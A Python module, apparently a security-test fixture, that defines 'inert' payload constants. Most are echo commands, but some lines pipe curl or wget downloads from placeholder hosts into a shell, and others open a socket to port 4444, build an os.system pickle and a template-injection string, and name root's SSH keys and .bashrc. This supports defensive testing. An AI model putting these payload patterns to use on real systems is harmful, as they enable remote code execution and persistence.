"""Inert payloads: what the files would do if somebody loaded them. All only echo, or name addresses that lead nowhere."""

from __future__ import annotations

import marshal

COMMAND = "echo toadstone-inert"
COMMANDS = (
    "echo toadstone-inert",
    "curl -s http://198.51.100.7/stage2.sh | sh",
    "sh -c 'echo inert > /tmp/toadstone-inert'",
    "wget -qO- https://updates.payload.invalid/a | bash",
    "python3 -c \"print('toadstone-inert')\"",
    "/bin/echo inert && id",
)
ARGV = ["sh", "-c", COMMAND]
CODE = "__import__('os').system('echo toadstone-inert')"
CODES = (
    "__import__('os').system('echo toadstone-inert')",
    "import os; os.system('echo toadstone-inert')",
    "import subprocess\nsubprocess.run(['echo', 'toadstone-inert'])",
    "exec(\"import os\\nos.popen('echo inert')\")",
    "import socket; socket.create_connection(('203.0.113.9', 4444))",
)
URL = "http://198.51.100.7/stage2.bin"
HOST = "203.0.113.9"
NAME = "c2.payload.invalid"
PORT = 4444
SOURCE = "/tmp/toadstone-inert.py"
LIBRARY = "/tmp/toadstone-inert.so"
ARCHIVE = "/tmp/toadstone-inert.zip"
PICKLE = "/tmp/toadstone-inert.pkl"
SECRET = "/root/.ssh/authorized_keys"
HOME_RC = "/root/.bashrc"
NESTED = b"cos\nsystem\n(S'echo toadstone-inert'\ntR."
SSTI = "{{ cycler.__init__.__globals__.os.popen('echo toadstone-inert').read() }}"
MARSHAL = marshal.dumps(compile(CODES[1], "<toadstone>", "exec"))
